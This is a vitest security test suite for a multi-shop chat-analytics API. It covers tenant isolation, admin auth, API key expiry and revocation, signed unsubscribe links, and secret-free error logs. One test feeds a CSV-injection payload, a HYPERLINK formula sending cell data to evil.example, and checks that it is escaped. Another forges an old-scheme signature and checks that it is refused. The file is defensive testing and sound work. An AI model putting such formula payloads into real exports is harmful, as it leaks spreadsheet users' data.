import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTestTable } from '#test/support/table.ts';
import { faultyClient } from '#test/support/faults.ts';
import { call, httpEvent } from '#test/support/http.ts';
import { TEST_SECRETS } from '#test/support/env.ts';
import { makeShop } from '#test/support/factories.ts';
import { PAGE, makeMetaMessage, metaSign } from '#test/support/fixtures/platforms.ts';
import { handler as admin } from '#functions/admin/handler.ts';
import { handler as events } from '#functions/events/handler.ts';
import { handler as report } from '#functions/report/handler.ts';
import { handler as webhook } from '#functions/webhook/handler.ts';
import { createApiKey, putShop } from '#lib/store/shops.ts';
import { setDb } from '#lib/store/client.ts';
import { resetConfig } from '#lib/config.ts';
import { recordBatch } from '#lib/ingest/record-batch.ts';
import { handler as authorizer } from '#functions/authorizer/handler.ts';
import { hashApiKey, shopOfApiKey } from '#lib/store/api-keys.ts';
import { db, tableName } from '#lib/store/client.ts';
import { keys } from '#lib/store/keys.ts';
import { GetCommand } from '@aws-sdk/lib-dynamodb';
import { lambdaContext } from '#test/support/http.ts';
import { createHmac } from 'node:crypto';
import { unsubscribeUrl } from '#lib/digests/unsubscribe.ts';

const SECRET_VALUES = Object.values(TEST_SECRETS);
const addDaysIso = (day: string, n: number) => new Date(Date.parse(`${day}T00:00:00Z`) + n * 86_400_000).toISOString().slice(0, 10);

describe('security', () => {
  let keyA: string;
  let keyB: string;
  beforeAll(async () => {
    await createTestTable();
    await putShop(makeShop('sec-a', { pages: [{ pageId: PAGE, channel: 'facebook', name: 'A' }] }));
    await putShop(makeShop('sec-b', { pages: [{ pageId: 'sec-b-page', channel: 'facebook', name: 'B' }] }));
    keyA = await createApiKey('sec-a');
    keyB = await createApiKey('sec-b');
  });
  afterEach(() => {
    setDb(undefined);
    vi.restoreAllMocks();
  });

  it('never lets one shop read another shop\'s reports, for every report', async () => {
    for (const name of ['overview', 'conversations', 'staff-chat', 'staff-sales', 'ads', 'referrals']) {
      const res = await call(report, httpEvent({ method: 'GET', path: `/v1/shops/sec-b/reports/${name}`, query: 'from=2026-11-01&to=2026-11-02', headers: { authorization: `Bearer ${keyA}` } }));
      expect(res.status, name).toBe(403);
      expect(res.body.error.code).toBe('forbidden');
      const own = await call(report, httpEvent({ method: 'GET', path: `/v1/shops/sec-b/reports/${name}`, query: 'from=2026-11-01&to=2026-11-02', headers: { authorization: `Bearer ${keyB}` } }));
      expect(own.status, name).toBe(200);
    }
  });

  it('never lets one shop write events into another shop\'s page', async () => {
    const res = await call(events, httpEvent({
      method: 'POST', path: '/v1/events', headers: { authorization: `Bearer ${keyA}` },
      body: { events: [{ id: 'x1', kind: 'message.received', at: new Date().toISOString(), pageId: 'sec-b-page', customerId: 'c' }] },
    }));
    expect(res.status).toBe(400);
    expect(res.body.error.details[0]).toMatchObject({ index: 0, path: 'pageId' });
  });

  it('requires the admin token on every admin route', async () => {
    const routes: Array<[string, string, object | undefined]> = [
      ['PUT', '/v1/admin/shops/sec-a', { name: 'x' }],
      ['POST', '/v1/admin/shops/sec-a/api-keys', undefined],
      ['GET', '/v1/admin/shops/sec-a/api-keys', undefined],
      ['DELETE', '/v1/admin/shops/sec-a/api-keys/key_x', undefined],
      ['POST', '/v1/admin/rebuild', { shopId: 'sec-a', from: '2026-11-01', to: '2026-11-02' }],
      ['POST', '/v1/admin/digests/run', { shopId: 'sec-a', period: 'daily', date: '2026-11-01' }],
    ];
    for (const [method, path, body] of routes) {
      for (const auth of [undefined, 'Bearer nope', `Bearer ${keyA}`, `Basic ${TEST_SECRETS.ADMIN_TOKEN}`]) {
        const res = await call(admin, httpEvent({ method, path, ...(body ? { body } : {}), headers: auth ? { authorization: auth } : {} }));
        expect(res.status, `${method} ${path} with ${auth}`).toBe(401);
      }
    }
  });

  it('answers 413 for an oversized webhook body and stores nothing', async () => {
    process.env.MAX_BODY_BYTES = '2048';
    resetConfig();
    try {
      const big = JSON.stringify({ ...makeMetaMessage(), padding: 'x'.repeat(4096) });
      const res = await call(webhook, httpEvent({ method: 'POST', path: '/webhooks/meta', body: big, headers: { 'x-hub-signature-256': metaSign(big, TEST_SECRETS.META_APP_SECRET) } }));
      expect(res.status).toBe(413);
    } finally {
      delete process.env.MAX_BODY_BYTES;
      resetConfig();
    }
  });

  it('answers 400 for malformed JSON behind a valid signature', async () => {
    const raw = '{"object":"page","entry":[';
    const res = await call(webhook, httpEvent({ method: 'POST', path: '/webhooks/meta', body: raw, headers: { 'x-hub-signature-256': metaSign(raw, TEST_SECRETS.META_APP_SECRET) } }));
    expect(res.status).toBe(400);
    expect(res.body.error.message).toBe('Request body is not valid JSON');
  });

  describe('API key lifecycle', () => {
    const ADMIN = { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` };
    const adminCall = (method: string, path: string, body?: object) => call(admin, httpEvent({ method, path, headers: ADMIN, ...(body ? { body } : {}) }));
    const authorize = async (key: string) => ((await authorizer({ headers: { authorization: `Bearer ${key}` } } as never, lambdaContext)) as { context: { shopId: string } }).context.shopId;
    const stored = async (key: string) => (await db().send(new GetCommand({ TableName: tableName(), Key: keys.apiKey(hashApiKey(key)) }))).Item;

    it('issues a named, expiring key once, lists it without the key or its hash, and revokes it', async () => {
      const expiresAt = new Date(Date.now() + 30 * 86_400_000).toISOString();
      const made = await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'POS máy 1', expiresAt });
      expect(made.status).toBe(201);
      expect(Object.keys(made.body).sort()).toEqual(['apiKey', 'keyId']);
      const { keyId, apiKey } = made.body as { keyId: string; apiKey: string };
      expect(await authorize(apiKey)).toBe('sec-b');

      const listed = await adminCall('GET', '/v1/admin/shops/sec-b/api-keys');
      expect(listed.status).toBe(200);
      const mine = listed.body.keys.find((k: { keyId: string }) => k.keyId === keyId);
      expect(mine).toEqual({ keyId, name: 'POS máy 1', createdAt: expect.any(String), lastUsedAt: expect.any(String), expiresAt });
      expect(listed.raw).not.toContain(apiKey);
      expect(listed.raw).not.toContain(hashApiKey(apiKey));
      // the keys issued in beforeAll (no name, no expiry) are listed too
      expect(listed.body.keys.length).toBeGreaterThanOrEqual(2);

      // another shop's path cannot revoke it
      expect((await adminCall('DELETE', `/v1/admin/shops/sec-a/api-keys/${keyId}`)).status).toBe(404);
      expect(await authorize(apiKey)).toBe('sec-b');

      const revoked = await adminCall('DELETE', `/v1/admin/shops/sec-b/api-keys/${keyId}`);
      expect(revoked.status).toBe(204);
      expect(await authorize(apiKey)).toBe('');
      const res = await call(report, httpEvent({ method: 'GET', path: '/v1/shops/sec-b/reports/overview', query: 'from=2026-11-01&to=2026-11-02', headers: { authorization: `Bearer ${apiKey}` } }));
      expect(res.status).toBe(401);
      expect((await adminCall('GET', '/v1/admin/shops/sec-b/api-keys')).body.keys.some((k: { keyId: string }) => k.keyId === keyId)).toBe(false);
      expect((await adminCall('DELETE', `/v1/admin/shops/sec-b/api-keys/${keyId}`)).status).toBe(404);
    });

    it('refuses an expired key, and a request for a key that would be born expired', async () => {
      const past = await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { expiresAt: '2020-01-01T00:00:00+07:00' });
      expect(past.status).toBe(400);
      expect(past.body.error.details).toEqual([{ path: 'expiresAt', message: 'must be in the future' }]);
      expect((await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'x'.repeat(101) })).status).toBe(400);
      expect((await adminCall('POST', '/v1/admin/shops/nope/api-keys', {})).status).toBe(404);

      const expiresAt = '2030-01-01T00:00:00.000Z';
      const key = (await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { expiresAt })).body.apiKey as string;
      expect(await shopOfApiKey(key, Date.parse(expiresAt) - 1)).toBe('sec-b');
      expect(await shopOfApiKey(key, Date.parse(expiresAt))).toBeUndefined();
      expect(await shopOfApiKey(key, Date.parse(expiresAt) + 86_400_000)).toBeUndefined();
    });

    it('records the last use at most once an hour per key', async () => {
      const key = (await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'busy' })).body.apiKey as string;
      expect((await stored(key))?.lastUsedAt).toBeUndefined();
      const t0 = Date.parse('2030-06-01T08:00:00.000Z');
      await shopOfApiKey(key, t0);
      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T08:00:00.000Z');
      await shopOfApiKey(key, t0 + 59 * 60_000); // within the hour: no write
      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T08:00:00.000Z');
      await shopOfApiKey(key, t0 + 60 * 60_000);
      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T09:00:00.000Z');
    });
  });

  it('signs unsubscribe links with their own key, not one derived from the admin token', async () => {
    const email = 'owner@hoamai.vn';
    const expected = createHmac('sha256', TEST_SECRETS.UNSUBSCRIBE_SIGNING_KEY).update(`sec-a\n${email}\ndaily`).digest('base64url');
    const url = new URL(unsubscribeUrl('sec-a', email, 'daily'));
    expect(url.searchParams.get('sig')).toBe(expected);
    // the old scheme (HMAC keyed by a key derived from ADMIN_TOKEN) no longer opens anything
    const derived = createHmac('sha256', TEST_SECRETS.ADMIN_TOKEN).update('chatpulse-unsubscribe').digest();
    const forged = new URLSearchParams({ shop: 'sec-a', email, period: 'daily', sig: createHmac('sha256', derived).update(`sec-a\n${email}\ndaily`).digest('base64url') });
    const res = await call(admin, httpEvent({ method: 'POST', path: '/v1/unsubscribe', query: forged.toString() }));
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual([{ path: 'sig', message: 'link is incomplete or was altered' }]);
    const ok = await call(admin, httpEvent({ method: 'POST', path: '/v1/unsubscribe', query: url.search.slice(1) }));
    expect(ok.status).toBe(200);
  });

  it('writes hostile ids into CSV as text, never as a live formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")';
    const at = new Date(Date.now() - 3_600_000).toISOString();
    const day = at.slice(0, 10);
    await recordBatch('sec-a', [
      { id: 'csv-1', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c1', adId: evil },
      { id: 'csv-2', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c2', adId: '@SUM(1)' },
      { id: 'csv-3', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c3', adId: '-2+3' },
    ]);
    const res = await call(report, httpEvent({ method: 'GET', path: '/v1/shops/sec-a/reports/ads', query: `from=${addDaysIso(day, -1)}&to=${addDaysIso(day, 1)}&format=csv`, headers: { authorization: `Bearer ${keyA}` } }));
    expect(res.status).toBe(200);
    const firstCells = res.raw.replace(/^\uFEFF/, '').split('\r\n').slice(1).filter(Boolean).map((line) => line.split(',')[0]);
    expect(firstCells).toEqual(expect.arrayContaining([`"'=HYPERLINK(""http://evil.example/?d=""&A2`, `"'@SUM(1)"`, `"'-2+3"`]));
    for (const line of res.raw.split('\r\n')) expect(line).not.toMatch(/^[=+@-]|,[=+@]/);
  });

  it('refuses an amount that cannot be kept exactly with a 400 naming the event and field', async () => {
    await putShop(makeShop('sec-kwd', { currency: 'KWD', pages: [{ pageId: 'sec-kwd-page', channel: 'facebook', name: 'K' }] }));
    const kwdKey = await createApiKey('sec-kwd');
    const order = { id: 'big-1', kind: 'order.created', at: new Date().toISOString(), orderId: 'o-big', pageId: 'sec-kwd-page', total: 9999999999999.999 };
    const res = await call(events, httpEvent({ method: 'POST', path: '/v1/events', headers: { authorization: `Bearer ${kwdKey}` }, body: { events: [{ ...order, id: 'small-1', orderId: 'o-small', total: 12.5 }, order] } }));
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('invalid_request');
    expect(res.body.error.details).toEqual([{ index: 1, path: 'total', message: expect.stringContaining('KWD') }]);
  });

  it('caps an admin rebuild at 366 days like reports', async () => {
    // an unknown shop: a range that passes validation then answers 404 without any work
    const rebuild = (from: string, to: string) =>
      call(admin, httpEvent({ method: 'POST', path: '/v1/admin/rebuild', headers: { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` }, body: { shopId: 'sec-none', from, to } }));
    const long = await rebuild('2000-01-01', '2099-12-31'); // a century: refused before any work
    expect(long.status).toBe(400);
    expect(long.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
    // today-365 .. today is 366 days (both ends inclusive) and allowed; one more day is not
    const today = new Date().toISOString().slice(0, 10);
    const over = await rebuild(addDaysIso(today, -366), today);
    expect(over.status).toBe(400);
    expect(over.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
    expect((await rebuild(addDaysIso(today, -365), today)).status).toBe(404);
  });

  it('turns an internal failure into a 500 with a request id, no stack and no secret, in the response and the logs', async () => {
    const logged: string[] = [];
    process.env.LOG_LEVEL = 'info';
    // Powertools Logger writes to the process streams, not through `console`
    for (const stream of [process.stdout, process.stderr]) {
      vi.spyOn(stream, 'write').mockImplementation(((l: string | Uint8Array) => logged.push(String(l)) > 0) as typeof stream.write);
    }
    setDb(faultyClient(() => Object.assign(new Error(`connect ECONNREFUSED with ${TEST_SECRETS.ADMIN_TOKEN}`), { name: 'InternalDatabaseFailure' })));
    try {
      const res = await call(report, httpEvent({ method: 'GET', path: '/v1/shops/sec-a/reports/overview', query: 'from=2026-11-01&to=2026-11-02', headers: { authorization: `Bearer ${keyA}` } }));
      expect(res.status).toBe(500);
      expect(res.body).toEqual({ error: { code: 'internal', message: 'Internal error', details: { requestId: expect.any(String) } } });
      for (const text of [res.raw, ...logged]) {
        expect(text).not.toMatch(/\n\s+at /);
        for (const s of SECRET_VALUES) expect(text).not.toContain(s);
      }
      expect(logged.some((l) => l.includes('"errorName":"InternalDatabaseFailure"'))).toBe(true);
    } finally {
      process.env.LOG_LEVEL = 'silent';
    }
  });
});
